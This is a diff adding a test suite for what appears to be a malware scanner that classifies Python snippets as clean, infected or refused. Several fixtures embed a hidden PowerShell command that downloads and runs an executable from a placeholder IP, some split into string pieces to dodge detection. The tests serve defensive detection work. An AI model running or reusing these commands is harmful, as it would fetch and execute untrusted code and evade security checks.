@@ -109,8 +109,55 @@ for (const [name, [threat, harmless]] of Object.entries(PAIRS))
     }
   })
 
+/** More than is followed. */
+const BUSY = 'n = 0\nfor i in range(9000):\n  for j in range(9000):\n    n = n + j\n'
+
+suite('Python behind a limit that conceals nothing is judged by what can be read', () => {
+  const choose = (name: string, values: readonly string[]): string =>
+    values
+      .map((value, i) => (i === 0 ? `${name} = ${value}\n` : `if time.time() > ${i}: ${name} = ${value}\n`))
+      .join('')
+  const words = (...lists: string[][]): string =>
+    `import os, subprocess, time\n${BUSY}${lists.map((list, i) => choose(`w${i}`, list)).join('')}subprocess.Popen([${lists.map((_, i) => `w${i}`).join(', ')}])\n`
+  const keys = times(5, (i) => `"HKLM\\\\Software\\\\Vendor\\\\${i}"|`)
+    .split('|')
+    .slice(0, 5)
+  const pick = (lists: string): string => `import os, time\n${BUSY}${lists}s = "".join([a for a in p])\nos.system(s)\n`
+  const each = (body: string): string =>
+    `import os, subprocess\n${BUSY}def f(names, texts):\n  a = "${'abc;'.repeat(100)}"\n  for n in names:\n    a = a or n\n    a = [x + y + z for x in a for y in a for z in a]\n  return a\n${body}`
+  const cases: Record<string, [Verdict, string]> = {
+    'a known tool with many keys': [
+      'clean',
+      words(['os.path.join(os.environ["WINDIR"], "reg.exe")', '"reg.exe"'], ['"query"', '"export"'], keys, [
+        '"/v"',
+        '"/s"',
+      ]),
+    ],
+    'one of many programs with many arguments': [
+      'infected',
+      words(
+        ['"notepad"', '"wordpad"', '"powershell"'],
+        ['"a"', '"b"', '"-w hidden"'],
+        ['"c"', '"d"', '"iwr http://192.0.2.1/a -OutFile a.exe; .\\\\a.exe"'],
+      ),
+    ],
+    'lists of letters in lists of letters': ['clean', each('subprocess.call(["net", "config", "Workstation"])\n')],
+    'a threat after lists of letters in lists of letters': ['infected', each(`os.system(${E})\n`)],
+    'a command of pieces that one of two lists has': [
+      'refused',
+      pick('p = ["power", "shell -w hidden iwr http", "://192.0.2.1/a"]\nif time.time() > 1: p = ["note", "pad"]\n'),
+    ],
+    'a command of pieces of a list': ['refused', pick('p = ["power", "shell -w hidden iwr http", "://192.0.2.1/a"]\n')],
+    'one of two lists that are not run': [
+      'clean',
+      `import os, time\n${BUSY}p = ["a", "b"]\nif time.time() > 1: p = ["c"]\nprint([a for a in p])\nos.system("net config")\n`,
+    ],
+  }
+  for (const [name, [verdict, source]] of Object.entries(cases))
+    test(name, () => assert.equal(verdictOf([Buffer.from(source), 'a.py']), verdict))
+})
+
 suite('Python behind a limit is not clean', () => {
-  const BUSY = 'n = 0\nfor i in range(9000):\n  for j in range(9000):\n    n = n + j\n'
   const cases: Record<string, string> = {
     'after loops': start(`${BUSY}s = ${E}`),
     'in a branch after loops': start(`${BUSY}s = ${E}\nif ${C}:\n  s = ${H}`),
